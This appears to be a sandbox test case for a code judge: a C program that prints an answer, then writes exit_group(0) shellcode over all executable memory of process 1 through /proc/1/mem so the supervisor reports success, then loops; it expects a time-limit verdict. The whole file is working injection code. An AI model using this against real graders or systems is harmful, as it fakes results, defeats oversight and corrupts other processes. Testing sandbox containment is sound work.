// attack: prints the answer, lets the first process report success, and computes on; expect: TLE
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
int main(void) {
  puts("safe"); fflush(stdout);
  int mem = open("/proc/1/mem", O_RDWR);
  FILE *maps = fopen("/proc/1/maps", "r");
  char line[400], code[4096]; memset(code, 0x90, sizeof code);
  /* exit_group(0) after a slide of no operations, over all code of the process */
  memcpy(code + sizeof code - 11, "\x31\xff\xb8\xe7\x00\x00\x00\x0f\x05\xeb\xfe", 11);
  while (mem >= 0 && maps && fgets(line, sizeof line, maps)) {
    unsigned long from, to; char rights[5];
    if (sscanf(line, "%lx-%lx %4s", &from, &to, rights) == 3 && strchr(rights, 'x'))
      for (; from < to; from += sizeof code) pwrite(mem, code, sizeof code, from);
  }
  for (volatile unsigned long i = 0;; i++) {}
}
